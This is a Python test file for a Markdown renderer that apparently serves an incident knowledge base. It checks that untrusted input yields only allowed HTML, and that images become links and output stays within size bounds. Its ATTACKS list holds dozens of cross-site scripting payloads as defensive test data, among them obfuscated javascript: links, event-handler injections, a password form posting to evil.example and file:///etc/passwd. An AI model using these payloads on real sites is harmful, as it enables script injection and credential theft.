"""Untrusted Markdown: what it can express, and that nothing in it runs, loads or leads astray."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from incidents.markdown_bounds import Allowance
from kb.web.markdown import to_html
from kb.web.marking import Mark

ALLOWED = {
    *("p", "br", "hr", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h2", "h3", "h4", "h5", "h6", "div", "table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
}


class Elements(HTMLParser):
    """Collects all elements and addresses, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, html
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), html
        if tag == "a":
            assert re.match(r"(https?|mailto):", attributes["href"], re.IGNORECASE), html
            assert attributes["rel"] == "noopener nofollow ugc"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/"onerror="alert(1))',
    '[x](https://evil.example/"onclick="alert(1) "y" onclick=alert(1))',
    "[x](//evil.example)",
    "[x](/incidents/INC-1)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://a.example "t\\" onmouseover=\\"alert(1)"',
    "```<script>\nalert(1)\n```",
    '``` "onclick=alert(1)\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "`<img src=x onerror=alert(1)>`",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_markup_that_runs_loads_or_leads_astray(attack):
    for text in (attack, f"before {attack} after", f"- {attack}\n- b", f"> {attack}", f"# {attack}"):
        assert_harmless(to_html(text))


SYNTAX = [
    *(
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        '"',
        "'",
        "`",
        "```\n",
        "|",
        "|-|",
        "\n",
        "\n\n",
        "# ",
        "- ",
        "> ",
        "1. ",
        "*",
        "_",
    ),
    *("&#", "&", ";", "\\", "\t", "    ", "javascript:", "https://a.example", "<a href="),
]
pieces = st.sampled_from([*ATTACKS, *SYNTAX])


@given(st.lists(pieces | st.text(max_size=10), max_size=12).map("".join))
def test_any_text_renders_only_to_the_short_list_of_elements(text):
    assert_harmless(to_html(text))


@given(st.lists(pieces, max_size=12).map("".join), st.integers(2, 6))
def test_no_heading_is_above_the_level_the_page_assigns(text, level):
    for tag, _ in Elements(to_html(text, first_heading=level)).found:
        assert not re.fullmatch("h[1-6]", tag) or int(tag[1]) >= level


def test_everyday_markdown_is_rendered():
    html = to_html(
        "Three *retries* **each**, `net.js:123`, see [the graph](https://dash.example/?a=1&b=2).\n\n"
        "1. one\n2. two\n\n> quoted\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n"
    )
    assert "<em>retries</em> <strong>each</strong>, <code>net.js:123</code>" in html
    assert '<a href="https://dash.example/?a=1&amp;b=2" rel="noopener nofollow ugc">the graph</a>' in html
    assert "<ol>\n<li>one</li>" in html
    assert "<blockquote>" in html
    assert '<td class="to-center">1</td>' in html
    assert '<td class="to-right">2</td>' in html


def test_markup_is_shown_as_written():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in to_html("<script>alert(1)</script>")
    assert "[x](javascript:alert(1))" in to_html("[x](javascript:alert(1))")


def test_images_become_links_so_that_no_server_learns_who_is_reading():
    html = to_html("![the graph](https://evil.example/pixel.png)")
    assert "<img" not in html
    assert '<a href="https://evil.example/pixel.png" rel="noopener nofollow ugc">the graph</a>' in html


def test_an_image_inside_a_link_becomes_its_words():
    html = to_html("[![graph](https://a.example/p.png)](https://b.example)")
    assert html.count("<a ") == 1
    assert ">graph</a>" in html


def test_headings_skip_no_level():
    assert "<h3>a</h3>" in to_html("## a")
    html = to_html("# a\n\n### b\n\n# c")
    assert "<h3>a</h3>" in html
    assert "<h4>b</h4>" in html
    assert "<h3>c</h3>" in html


def test_bare_addresses_are_left_alone_because_linkify_is_off():
    assert "<a" not in to_html("see https://a.example now")


@pytest.mark.parametrize("text", ["*a " * 40_000, "[" * 40_000, "> " * 20_000, "`a``" * 30_000, "<a " * 60_000])
def test_input_that_is_hard_for_a_parser_is_still_rendered(text):
    assert to_html(text)


WIDE_TABLE = "|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "b\n" * 240 + "\n"
LONG_ADDRESS = "[x]: https://a.example/" + "a" * 5_000


@pytest.mark.parametrize(
    "text",
    [WIDE_TABLE * 20, LONG_ADDRESS + "\n\n" + "[x] " * 2_000, LONG_ADDRESS + "\n\n" + "![x] " * 2_000],
    ids=["rows shorter than their head", "one address in many links", "one address in many pictures"],
)
def test_a_text_expands_only_within_bounds(text):
    html = to_html(text)
    assert len(html) < 40_000 + 20 * len(text)
    assert len(re.sub("<[^>]*>", "", html)) >= len(re.sub(r"\W", "", text)) / 2


def test_a_row_shorter_than_the_head_is_padded():
    assert to_html("| a | b |\n|---|---|\n| 1 |").count("<td>") == 2


def words_of(html):
    return " ".join(re.sub("<[^>]*>", " ", html).replace("&gt;", ">").split())


@pytest.mark.parametrize(
    "text",
    [
        "Before.\n\n" + "* a\n" * 100,
        "Before.\n\n" + "a\n\n" * 100,
        "Before.\n\n" + "a\n" * 100,
        "Before.\n\n|a|b|\n|-|-|\n" + "|1|2|\n" * 100,
        "Before.\n\n" + "> ```\nx\n" * 100,
        "Before.\n\n" + "[a]: https://a.example\n" * 100,
    ],
    ids=["entries", "paragraphs", "lines", "rows", "quotes that end at once", "addresses"],
)
def test_what_takes_too_much_is_shown_as_written(text):
    html = to_html(text + "\nThe **end**.", allowance=Allowance(100))
    assert "<p>Before.</p>" in html
    assert re.search(r"<pre><code>[^<]*The \*\*end\*\*\.\n*</code></pre>", html)
    assert words_of(html).count("a") >= text.count("a") / 2


def test_a_paragraph_with_too_much_markup_is_shown_as_written_and_the_next_one_is_not():
    html = to_html("![" * 1_000 + "\n\n**Bold**", allowance=Allowance(markup=100))
    assert html == f"<p>{'![' * 1_000}</p>\n<p><strong>Bold</strong></p>\n"


def test_all_texts_of_a_page_share_one_allowance():
    allowance = Allowance(100)
    entries = "* a\n" * 10
    assert "<pre>" not in to_html(entries, allowance=allowance)
    assert "<pre>" in to_html(entries, allowance=allowance)
    assert to_html("* a", allowance=allowance) == "<pre><code>* a</code></pre>\n"


@pytest.mark.parametrize("mark", ["> ", "* ", "1. ", "> * "])
def test_text_that_is_nested_too_deeply_is_not_lost(mark):
    html = to_html(mark * 30 + "deep\n\nafter")
    assert "deep" in html
    assert html.endswith("<p>after</p>\n")


def test_a_mark_is_drawn_in_what_is_shown_as_written():
    text = "a\n\n" * 20 + "It fell."
    html = to_html(text, marks=[Mark(text.index("It"), len(text), "why-1")], allowance=Allowance(30))
    assert html.endswith('<mark id="why-1">It fell.</mark></code></pre>\n')
